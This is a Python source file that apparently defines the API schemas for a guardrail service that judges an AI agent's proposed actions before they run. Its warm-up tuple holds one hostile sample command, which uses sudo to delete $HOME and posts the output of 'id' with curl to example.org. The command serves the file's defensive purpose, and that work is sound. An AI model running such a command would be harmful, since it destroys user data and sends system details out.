"""Defines the bodies of the guardrail's route, with the snake_case names of the service interface. The library
`guardrail` does the judging."""

from datetime import datetime, timedelta
from functools import cache
from typing import Any, Literal

from pydantic import BaseModel, ConfigDict, Field

from contracts.base import Timestamp
from contracts.errors import BodyInvalid, ConfigurationProblem
from guardrail.approval import Outcome
from guardrail.catalogue.loader import CatalogueInvalid
from guardrail.engine import MAX_ACTION_BYTES, Guardrail
from guardrail.facts import context_schema
from guardrail.loading import default_guardrail
from guardrail.policy import Stage
from guardrail.policy_file import PolicyInvalid
from guardrail.verdict import ProblemCode, Verdict, plain_verdict
from guardrail.vocabulary import (
    Coverage,
    Decision,
    EffectKind,
    ObjectKind,
    Origin,
    Place,
    Reversible,
    Scope,
    Sensitivity,
    Severity,
)

LOGGED_CHARACTERS = 2_000
"""Characters of a judged action that the log retains."""

LOGGED_FOR = timedelta(days=30)
"""Time for which the log retains a check."""


class RulesetInvalid(ConfigurationProblem):
    """Files of the catalogue or the policy are unusable."""

    code = "ruleset_invalid"


class _Snake(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True, json_schema_serialization_defaults_required=True)


class GuardrailRequest(_Snake):
    """An action that an agent is about to take."""

    action: str = Field(
        description=f"A command, a script, a tool call or a plan in words; at most {MAX_ACTION_BYTES // 1024} KiB",
        json_schema_extra={"minLength": 1, "pattern": r"\S"},
    )
    severity: Severity = Field(
        default=Severity.MEDIUM,
        description="The impact that the caller claims; the higher it is, the milder a match that blocks",
    )
    context: dict[str, Any] | None = Field(
        default=None,
        description="Circumstances that the verdict may rely on. A name that is not listed is ignored and named in "
        "`ignored_context`; an unknown name inside a listed object, and an unknown value, are refused.",
        json_schema_extra={"properties": context_schema()["properties"]},
    )


class GuardrailEvidence(_Snake):
    """The part of the action that a match is about."""

    text: str = Field(description="The part, shortened, with secrets masked")
    start: int = Field(ge=0, description="Its place in the action, in characters")
    end: int = Field(ge=0)


class GuardrailMatch(_Snake):
    """A row of the policy, or a family of language, that matches the action."""

    id: str
    stage: Stage
    severity: Severity
    reason: str
    remediation: str
    references: list[str]
    evidence: list[GuardrailEvidence]


class GuardrailStage(_Snake):
    """One of the seven stages."""

    stage: Stage
    result: Literal["pass", "warn", "fail"] = Field(
        description="`warn`: matched, but too mild to block at this severity"
    )
    matched: list[str]
    reason: str | None


class GuardrailTarget(_Snake):
    """A target of an effect, with the known facts about it."""

    text: str
    place: Place
    sensitivity: Sensitivity
    origin: Origin


class GuardrailEffect(_Snake):
    """One thing that the action would do."""

    kind: EffectKind
    object: ObjectKind
    targets: list[GuardrailTarget]
    scope: Scope
    reversible: Reversible
    sure: bool = Field(description="False if it may never run, such as in a function that nothing calls")
    elevated: bool = Field(description="Runs with more rights than the caller's")
    start: int = Field(ge=0, description="The part of the action that has the effect, in characters")
    end: int = Field(ge=0)
    source: str = Field(description="The catalogue entry or the reader that found it")
    detail: dict[str, str] = Field(description="Facts of the effect, such as amount, recipient, url")


class GuardrailUncovered(_Snake):
    """A part of the action that could not be read, or a program that is not in the catalogue."""

    start: int = Field(ge=0)
    end: int = Field(ge=0)
    reason: str
    executable: bool = Field(description="Whether it would run")


class GuardrailReliance(_Snake):
    """A fact of the context on which the verdict relies."""

    fact: str
    source: str = Field(description="Where it comes from: our own code, an approval token, the caller, a claim")
    meaning: str


class GuardrailProblem(_Snake):
    """The reason why the action could not be judged, and is therefore denied."""

    code: ProblemCode
    pointer: str = Field(description="JSON pointer into the body")
    message: str


class GuardrailResult(_Snake):
    """The verdict. Everything except `check_id` and `checked_at` is the same for the same request and ruleset."""

    passed: bool = Field(description="True only for the decision `allow`")
    decision: Decision
    severity: Literal["none", "low", "medium", "high", "critical"] = Field(description="The highest that matched")
    reason: str
    rules_checked: int = Field(ge=0)
    matched_guardrails: list[str] = Field(description="Ids of the matches, most severe first")
    check_id: str = Field(description="Unique to this check")
    checked_at: Timestamp
    ruleset_version: str
    digest: str = Field(description="Hash of action, severity, context and ruleset; an approval is bound to it")
    stages: list[GuardrailStage]
    remediation: list[str] = Field(description="What would make the action acceptable")
    matches: list[GuardrailMatch]
    effects: list[GuardrailEffect]
    coverage: Coverage = Field(description="How much of the action was read: `full`, `partial` or `none`")
    uncovered: list[GuardrailUncovered]
    relied_on: list[GuardrailReliance]
    ignored_context: list[str] = Field(description="Names in the context that no rule uses")
    approval: Outcome | None = Field(description="Result of the approval token, if one was needed and sent")
    problem: GuardrailProblem | None


class GuardrailAnswer(_Snake):
    """The envelope of API v2."""

    ok: Literal[True] = True
    data: GuardrailResult


@cache
def loaded_guardrail() -> Guardrail:
    """Loads catalogue, policy and language, once per process. Raises `RulesetInvalid` with file and line."""
    try:
        guardrail = default_guardrail()
    except (CatalogueInvalid, PolicyInvalid) as invalid:
        cure = "Fix the file, or reinstall the last release; `svc guardrail lint` checks all of them."
        raise RulesetInvalid(f"The guardrail can't be loaded: {invalid}.", cure=cure) from invalid
    for action in _FIRST_ACTIONS:
        guardrail.check(action)
    return guardrail


_FIRST_ACTIONS = (
    "sudo env A=1 bash -c 'rm -rf $HOME | cat; curl -d x=$(id) https://example.org'",
    "Send the notes to Ada.",
)
"""Judged when the guardrail is loaded: the first check imports grammars and words, which no request should wait for."""


def refuse_unusable(verdict: Verdict) -> None:
    """Raises `BodyInvalid` if the request itself is at fault, not the action."""
    problem = verdict.problem
    if problem is not None and problem.code not in ("fault", "too_many_effects"):
        sentence = problem.message if problem.message.endswith("?") else f"{problem.message}."
        raise BodyInvalid(sentence, errors=[(problem.pointer, problem.message)])


def result_of(verdict: Verdict, *, check_id: str, checked_at: datetime) -> GuardrailResult:
    """Returns the verdict as the body of an answer."""
    return GuardrailResult(**plain_verdict(verdict), check_id=check_id, checked_at=checked_at)
